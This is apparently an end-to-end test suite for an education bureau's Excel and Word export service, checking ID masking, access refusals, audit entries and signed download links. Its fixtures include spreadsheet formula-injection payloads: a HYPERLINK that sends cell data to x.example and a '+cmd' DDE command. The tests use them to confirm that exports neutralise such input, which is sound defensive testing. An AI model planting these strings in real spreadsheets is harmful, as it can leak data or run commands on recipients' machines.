/**
 * Excel exports and the documents end to end (issue #13 parts 1, 4 and 5), through HTTP only, on the embedded
 * default: the local gateway hands POST /exports to the exports Lambda (its own function in
 * the template), which writes the workbook under exports/ in the local bucket and answers a
 * presigned GET; the download goes through the verifying S3 front. Every export opens in
 * ExcelJS, reads Chinese, carries no formula and no unmasked ID unless the bureau asked —
 * and that request is in the audit trail with who and when.
 */
import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mapLrmxPerson } from '../../formats/lrmx/map';
import { readLrmx } from '../../formats/lrmx/read';
import { everything, paragraphTexts, parts } from '../documents/docx-parts';
import { registerUnits, fixtureForm, jsonBytes, refusal, startE2eSystem, type E2eSystem, type Json, type PoolClient } from './support';

const START = '2026-11-02T09:00:00+08:00';
const ROUND = '2026-EXP';
const INTAKE_CLOSES = '2026-11-12T17:00:00+08:00';
const SCORING_CLOSES = '2026-11-13T17:00:00+08:00';
const HOSTILE_POST = '=HYPERLINK("http://x.example/?"&A1,"点我")';
const HOSTILE_NOTES = '@SUM(A1)';
const HOSTILE_TITLE = '+cmd|\' /C calc\'!A0';

const FORMS = [
  { unit: 'JT-XYXX', fixture: 'tier3-route-a-eligible.json' },
  { unit: 'JT-JTZX', fixture: 'tier1-eligible.json' },
  { unit: 'JT-JYJ-RSK', fixture: 'tier2-bureau-office.json' },
];

let sys: E2eSystem;
let bureau: PoolClient;
let approver: PoolClient;
let xyxx: PoolClient;
const ids = new Map<string, string>();
/** The admitted members by unit: personId and name (from GET /pool). */
const members = new Map<string, { personId: string; name: string }>();

async function open(bytes: Uint8Array): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(bytes) as unknown as ExcelJS.Buffer);
  return wb;
}

/** Every cell of every sheet as text, and whether any cell holds a formula. */
function cellsOf(wb: ExcelJS.Workbook): { texts: string[]; formulas: number } {
  const texts: string[] = [];
  let formulas = 0;
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => {
    if (cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined) formulas++;
    texts.push(cell.value instanceof Date ? cell.value.toISOString() : String(cell.value));
  })));
  return { texts, formulas };
}

async function exported(client: PoolClient, body: Json) {
  const link = await client.exportLink(body);
  const file = await client.download(link.url);
  const wb = await open(file.bytes);
  return { link, file, wb, ...cellsOf(wb) };
}

beforeAll(async () => {
  sys = await startE2eSystem(START);
  bureau = await sys.control.client('bureau');
  approver = await sys.control.client('approver');
  xyxx = await sys.control.client('school', 'JT-XYXX');
  // The registry knows every unit as its own form names it.
  await registerUnits(bureau, FORMS.map((f) => {
    const { unit } = fixtureForm(f.fixture, { roundId: ROUND }) as { unit: { code: string; name: string; type: string } };
    return { ...unit, code: f.unit };
  }));
  await bureau.openRound({
    roundId: ROUND, title: '导出测试批次', referenceDate: '2026-12-01', intakeClosesAt: INTAKE_CLOSES, scoringClosesAt: SCORING_CLOSES,
    tiers: [1, 2, 3], orgDeptApproval: { ref: '坛组干〔2026〕12 号', date: '2026-10-28' },
    scoringModel: { components: [{ id: 'honour', name: { zh: '学术称号', en: 'honour' }, weight: 1, min: 0, max: 8, source: 'form', derive: 'honour' }] },
  });
  for (const f of FORMS) {
    const form = fixtureForm(f.fixture, { roundId: ROUND }) as Json & { candidate: { idNumber: string; posts: Array<{ title: string }> } };
    ids.set(f.unit, form.candidate.idNumber);
    // A post title a spreadsheet would execute, stored verbatim as accepted forms store it.
    if (f.unit === 'JT-XYXX') form.candidate.posts[0]!.title = HOSTILE_POST;
    const client = await sys.control.client('school', f.unit);
    await client.upload(ROUND, `${f.unit}.json`, jsonBytes(form));
  }
  await sys.control.advance({ hours: 1 });
  await sys.control.settle();
  await sys.control.advance({ to: new Date(Date.parse(INTAKE_CLOSES) + 3_600_000).toISOString() });
  await sys.control.settle();
  await sys.control.advance({ to: new Date(Date.parse(SCORING_CLOSES) + 3_600_000).toISOString() });
  await sys.control.settle();
  await approver.decide(ROUND, { decision: 'approve' });
  await sys.control.settle();
  const pool = await bureau.pool() as { members: Array<{ personId: string; unit: string; name: string }> };
  for (const m of pool.members) members.set(m.unit, { personId: m.personId, name: m.name });
  const member = pool.members.find((m) => m.unit === 'JT-XYXX');
  if (!member) throw new Error(`JT-XYXX's candidate was not admitted: ${JSON.stringify(pool).slice(0, 400)}`);
  await sys.control.advance({ to: '2026-11-25T09:00:00+08:00' });
  await bureau.record(member.personId, 'talks', { on: '2026-11-20', by: '区教育局组织科', notes: HOSTILE_NOTES });
  await bureau.record(member.personId, 'training', { kind: 'course', title: HOSTILE_TITLE, provider: '常州市教育局', hours: 16, from: '2026-11-21', to: '2026-11-22' });
}, 180_000);

afterAll(async () => {
  await sys?.close();
});

describe('POST /exports on the embedded default', () => {
  it('the roster: a presigned download with a Chinese file name, masked IDs, frozen headers, filters, dates as dates', async () => {
    const { link, file, wb, texts, formulas } = await exported(bureau, { kind: 'roster' });
    expect(link.url).toMatch(/X-Amz-Signature=/);
    expect(link.url).toMatch(/\/exports%2F|\/exports\//);
    expect(Date.parse(link.expiresAt) - Date.now()).toBeLessThanOrEqual(300_000);
    expect(link.fileName).toMatch(/^后备人才名册_\d{4}-\d{2}-\d{2}\.xlsx$/);
    expect(file.fileName).toBe(link.fileName);
    expect(file.contentType).toMatch(/spreadsheetml/);
    expect(link.rows).toBe(3);
    const ws = wb.worksheets[0]!;
    expect(ws.getRow(1).values).toContain('身份证号');
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(ws.autoFilter).toMatch(/^A1:[A-Z]+4$/);
    const idCol = (ws.getRow(1).values as unknown[]).indexOf('身份证号');
    const shown = [2, 3, 4].map((r) => String(ws.getRow(r).getCell(idCol).value));
    for (const id of ids.values()) expect(shown).toContain(`${id.slice(0, 6)}********${id.slice(-4)}`);
    for (const id of ids.values()) expect(texts.join('|')).not.toContain(id);
    const startCol = (ws.getRow(1).values as unknown[]).indexOf('入库日期');
    expect(ws.getRow(2).getCell(startCol).value).toBeInstanceOf(Date);
    expect(formulas).toBe(0);
    expect(texts).toContain(HOSTILE_POST);
  });

  it('full ID numbers for the bureau only, and the audit says who asked and when', async () => {
    const { link, texts } = await exported(bureau, { kind: 'roster', fullIds: true, columns: ['name', 'idNumber', 'unit'] });
    expect(link.fullIds).toBe(true);
    for (const id of ids.values()) expect(texts).toContain(id);
    const trail = await bureau.audit('export/roster') as { entries: Array<{ action: string; actor: string; at: string; details: Json }> };
    const asked = trail.entries.filter((e) => e.action === 'export.full-ids-requested');
    expect(asked).toHaveLength(1);
    expect(asked[0]).toMatchObject({ actor: expect.stringMatching(/^user:/), details: { kind: 'roster', fullIds: true } });
    expect(Date.parse(asked[0]!.at)).not.toBeNaN();
    expect(JSON.stringify(trail)).not.toMatch(/\d{17}[\dX]/);

    const school = await refusal(() => xyxx.exportLink({ kind: 'roster', fullIds: true }));
    expect([school.status, school.body?.error.code]).toEqual([403, 'EXPORT_FULL_IDS_BUREAU_ONLY']);
  });

  it('a school exports its own unit only: another unit is a coded refusal', async () => {
    const own = await exported(xyxx, { kind: 'intake', roundId: ROUND });
    expect(own.link.rows).toBe(1);
    expect(own.link.fileName).toContain('JT-XYXX');
    expect(own.texts).not.toContain('JT-JTZX');
    const other = await refusal(() => xyxx.exportLink({ kind: 'intake', roundId: ROUND, unit: 'JT-JTZX' }));
    expect([other.status, other.body?.error.code]).toEqual([403, 'EXPORT_OTHER_UNIT']);
    const notHers = await refusal(() => xyxx.exportLink({ kind: 'shortlist', roundId: ROUND }));
    expect([notHers.status, notHers.body?.error.code]).toEqual([403, 'EXPORT_FORBIDDEN']);
  });

  it('every kind comes out, opens, reads Chinese and carries no formula', async () => {
    const bodies: Json[] = [
      { kind: 'intake', roundId: ROUND },
      { kind: 'shortlist', roundId: ROUND },
      { kind: 'publicity', roundId: ROUND },
      { kind: 'talks', asOf: '2026-12-01' },
      { kind: 'development' },
      { kind: 'x-use', from: '2026-01-01', to: '2026-12-31' },
    ];
    for (const body of bodies) {
      const { link, wb, texts, formulas } = await exported(bureau, body);
      expect(wb.worksheets.length, String(body.kind)).toBeGreaterThan(0);
      expect(formulas, String(body.kind)).toBe(0);
      expect(wb.worksheets[0]!.getRow(1).values, String(body.kind)).toEqual(expect.arrayContaining([expect.stringMatching(/[\u4e00-\u9fff]/)]));
      expect(link.fileName, String(body.kind)).toMatch(/[\u4e00-\u9fff].*\.xlsx$/);
      for (const id of ids.values()) expect(texts.join('|'), String(body.kind)).not.toContain(id);
    }
    const talks = await exported(bureau, { kind: 'talks', asOf: '2026-12-01' });
    expect(talks.wb.worksheets.map((w) => w.name)).toEqual(['应谈（截至2026-12-01）', '已谈']);
    expect(talks.texts).toContain(HOSTILE_NOTES);
    const dev = await exported(bureau, { kind: 'development' });
    expect(dev.texts).toContain(HOSTILE_TITLE);
    const sheet = strFromU8(unzipSync((await bureau.download((await bureau.exportLink({ kind: 'development' })).url)).bytes)['xl/worksheets/sheet1.xml']!);
    expect(sheet).not.toMatch(/<f[ >]/);
  });

  it('the 公示 list: name, gender, birth month, unit and post, tier — never an ID number, even when asked', async () => {
    const { wb } = await exported(bureau, { kind: 'publicity', roundId: ROUND });
    expect(wb.worksheets[0]!.getRow(1).values).toEqual([undefined, '序号', '姓名', '性别', '出生年月', '单位及职务', '拟入库梯队']);
    expect(wb.worksheets[0]!.rowCount).toBe(4);
    const refused = await refusal(() => bureau.exportLink({ kind: 'publicity', roundId: ROUND, fullIds: true }));
    expect([refused.status, refused.body?.error.code]).toEqual([422, 'EXPORT_NO_ID_NUMBERS']);
  });

  it('bad requests get codes and field paths', async () => {
    const noRound = await refusal(() => bureau.exportLink({ kind: 'intake' }));
    expect(noRound.body?.error.problems?.map((p) => [p.code, p.path])).toEqual([['EXPORT_ROUND_REQUIRED', 'roundId']]);
    const badColumn = await refusal(() => bureau.exportLink({ kind: 'roster', columns: ['name', 'idNo'] }));
    expect(badColumn.body?.error.problems?.map((p) => [p.code, p.path])).toEqual([['EXPORT_COLUMN_UNKNOWN', 'columns.1']]);
    const badKind = await refusal(() => bureau.exportLink({ kind: 'everything' }));
    expect(badKind.status).toBe(400);
    expect(badKind.body?.error.problems?.[0]?.path).toBe('kind');
    const noToken = await fetch(`${sys.apiUrl}/exports`, { method: 'POST', body: '{}' });
    expect(noToken.status).toBe(401);
  });

  it('the link is the permission: tampered or unsigned, the local S3 refuses it', async () => {
    const { url } = await bureau.exportLink({ kind: 'development' });
    const u = new URL(url);
    const unsigned = `${u.origin}${u.pathname}`;
    expect((await fetch(unsigned)).status).toBe(403);
    u.searchParams.set('response-content-type', 'text/html');
    expect((await fetch(u)).status).toBe(403);
  });
});

const DOCX_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const ID_LIKE = /\d{17}[\dX]/;
const which = (cmd: string) => (process.env.PATH ?? '').split(':').some((d) => d !== '' && existsSync(join(d, cmd)));
const HAVE_SOFFICE = which('soffice') && which('pdftotext');

/** A downloaded document through its link: the bytes, the name the download carries, and (for .docx) its parts. */
async function document(client: PoolClient, body: Json) {
  const link = await client.exportLink(body);
  const file = await client.download(link.url);
  return { link, file };
}

/**
 * LibreOffice opens the file as a Word document and converts it (headless, its own profile, so
 * it never hands over to another soffice on the machine); pdftotext gives the text back.
 */
async function libreOfficeText(bytes: Uint8Array): Promise<string> {
  const exec = promisify(execFile);
  const dir = mkdtempSync(join(tmpdir(), 'exports-lo-'));
  try {
    writeFileSync(join(dir, 'doc.docx'), bytes);
    await exec('soffice', [`-env:UserInstallation=file://${join(dir, 'profile')}`, '--headless', '--convert-to', 'pdf', '--outdir', dir, join(dir, 'doc.docx')], { timeout: 120_000 });
    await exec('pdftotext', ['-raw', join(dir, 'doc.pdf'), join(dir, 'doc.txt')], { timeout: 30_000 });
    return readFileSync(join(dir, 'doc.txt'), 'utf8');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

describe('POST /exports: the documents (DESIGN.md §8) on the embedded default', () => {
  const PERIOD = { from: '2026-11-26', to: '2026-12-02' };

  it('the bureau downloads the round\'s 公示 notice: a .docx with the Chinese title and the approved names, no ID number', async () => {
    const { link, file } = await document(bureau, { kind: 'publicity-notice', roundId: ROUND, period: PERIOD, contact: '区教育局组织人事科，电话0519-82821234' });
    expect(link).toMatchObject({ kind: 'publicity-notice', fileName: `公示-${ROUND}.docx`, contentType: DOCX_TYPE, fullIds: false });
    expect(link.url).toMatch(/X-Amz-Signature=/);
    expect(link.url).toMatch(/\.docx\?/);
    expect(file.fileName).toBe(link.fileName);
    expect(file.contentType).toBe(DOCX_TYPE);
    expect(strFromU8(file.bytes.subarray(0, 2))).toBe('PK');
    const p = parts(file.bytes);
    const texts = paragraphTexts(p['word/document.xml']!).join('\n');
    expect(texts).toContain('关于导出测试批次拟入库人选的公示');
    expect(texts).toContain('公示时间：2026年11月26日至2026年12月2日。');
    for (const m of members.values()) expect(texts).toContain(m.name);
    for (const id of ids.values()) expect(everything(p)).not.toContain(id);
    expect(everything(p)).not.toMatch(ID_LIKE);
    // Audited by the use case: who took the list out, and when (no names, no numbers).
    const trail = await bureau.audit(`round/${ROUND}`) as { entries: Array<{ action: string; actor: string }> };
    expect(trail.entries.filter((e) => e.action === 'document.publicity-notice').at(-1)).toMatchObject({ actor: expect.stringMatching(/^user:/) });

    if (!HAVE_SOFFICE) {
      console.warn('[exports] soffice / pdftotext not found: the LibreOffice check of the downloaded notice is skipped');
      return;
    }
    const pdf = await libreOfficeText(file.bytes);
    expect(pdf.replace(/\s+/g, '')).toContain('关于导出测试批次拟入库人选的公示');
    for (const m of members.values()) expect(pdf).toContain(m.name);
  }, 180_000);

  it('a member\'s 干部任免审批表: the bureau\'s for anyone, a school\'s for its own members only', async () => {
    const own = members.get('JT-XYXX')!;
    const other = members.get('JT-JTZX')!;
    const { link, file } = await document(bureau, { kind: 'appointment-form', personId: own.personId, proposedPost: '金坛区西旸小学德育处副主任', reason: '工作需要' });
    expect(link).toMatchObject({ kind: 'appointment-form', fileName: `干部任免审批表-${own.name}-${own.personId}.docx`, contentType: DOCX_TYPE, fullIds: false });
    expect(file.fileName).toBe(link.fileName);
    expect(strFromU8(file.bytes.subarray(0, 2))).toBe('PK');
    const p = parts(file.bytes);
    const texts = paragraphTexts(p['word/document.xml']!).join('\n');
    expect(texts).toContain('干部任免审批表');
    expect(texts).toContain(own.name);
    expect(texts).toContain('金坛区西旸小学德育处副主任');
    expect(everything(p)).not.toContain(ids.get('JT-XYXX'));
    expect(everything(p)).not.toMatch(ID_LIKE);

    const school = await document(xyxx, { kind: 'appointment-form', personId: own.personId });
    expect(paragraphTexts(parts(school.file.bytes)['word/document.xml']!).join('\n')).toContain(own.name);
    const refused = await refusal(() => xyxx.exportLink({ kind: 'appointment-form', personId: other.personId }));
    expect([refused.status, refused.body?.error.code]).toEqual([403, 'FORBIDDEN']);
    // Nobody's id: the same refusal, so a school cannot probe who is in the pool.
    const nobody = await refusal(() => xyxx.exportLink({ kind: 'appointment-form', personId: 'P00000000000000000000' }));
    expect([nobody.status, nobody.body?.error.code]).toEqual([403, 'FORBIDDEN']);
    // The 公示 is the bureau's to issue.
    const notice = await refusal(() => xyxx.exportLink({ kind: 'publicity-notice', roundId: ROUND, period: PERIOD }));
    expect([notice.status, notice.body?.error.code]).toEqual([403, 'FORBIDDEN']);
  });

  it('the .lrmx is the bureau\'s only, audited, and re-imports to the same name and ID number', async () => {
    const own = members.get('JT-XYXX')!;
    const { link, file } = await document(bureau, { kind: 'lrmx', personId: own.personId });
    expect(link).toMatchObject({ kind: 'lrmx', fileName: `${own.name}-${own.personId}.lrmx`, contentType: 'application/xml; charset=utf-8', fullIds: true });
    expect(file.fileName).toBe(link.fileName);
    const read = readLrmx(file.bytes);
    if (!read.ok) throw new Error(JSON.stringify(read.problems));
    const back = mapLrmxPerson(read.value, { roundId: ROUND, unit: { code: 'JT-XYXX' }, openTiers: [3] });
    expect(back.form.candidate).toMatchObject({ name: own.name, idNumber: ids.get('JT-XYXX') });
    const trail = await bureau.memberAudit(own.personId) as { entries: Array<{ action: string; actor: string }> };
    expect(trail.entries.some((e) => e.action === 'member.lrmx-exported' && e.actor.startsWith('user:'))).toBe(true);
    expect(JSON.stringify(trail)).not.toContain(ids.get('JT-XYXX'));

    for (const who of [xyxx, approver]) {
      const refused = await refusal(() => who.exportLink({ kind: 'lrmx', personId: own.personId }));
      expect([refused.status, refused.body?.error.code]).toEqual([403, 'FORBIDDEN']);
    }
  });

  it('bad document requests get codes and field paths', async () => {
    const paths = async (body: Json) => {
      const r = await refusal(() => bureau.exportLink(body));
      return { status: r.status, problems: r.body?.error.problems?.map((p) => [p.code, p.path]) };
    };
    expect(await paths({ kind: 'publicity-notice' })).toEqual({ status: 400, problems: [['BODY_INVALID', 'roundId']] });
    // No period, and a round without a 公示 period of its own (S-PUBLICITY): the bureau must give one.
    expect(await paths({ kind: 'publicity-notice', roundId: ROUND })).toEqual({ status: 400, problems: [['PUBLICITY_PERIOD_REQUIRED', 'period']] });
    expect(await paths({ kind: 'publicity-notice', roundId: ROUND, period: { from: '2026-02-30', to: '2026-12-02' } }))
      .toEqual({ status: 400, problems: [['BODY_INVALID', 'period.from']] });
    expect(await paths({ kind: 'publicity-notice', roundId: ROUND, period: { from: '2026-11-26', to: '2026-11-27' } }))
      .toEqual({ status: 400, problems: [['PUBLICITY_PERIOD_TOO_SHORT', 'period.to']] });
    expect(await paths({ kind: 'appointment-form', personId: 'someone' })).toEqual({ status: 400, problems: [['BODY_INVALID', 'personId']] });
    expect(await paths({ kind: 'appointment-form', personId: members.get('JT-XYXX')!.personId, reason: 'x'.repeat(501) }))
      .toEqual({ status: 400, problems: [['BODY_INVALID', 'reason']] });
    // A list's fields on a document are refused by name, not ignored.
    const extra = await paths({ kind: 'lrmx', personId: members.get('JT-XYXX')!.personId, fullIds: true });
    expect(extra.status).toBe(400);
    expect(extra.problems?.[0]?.[0]).toBe('BODY_INVALID');
  });
});
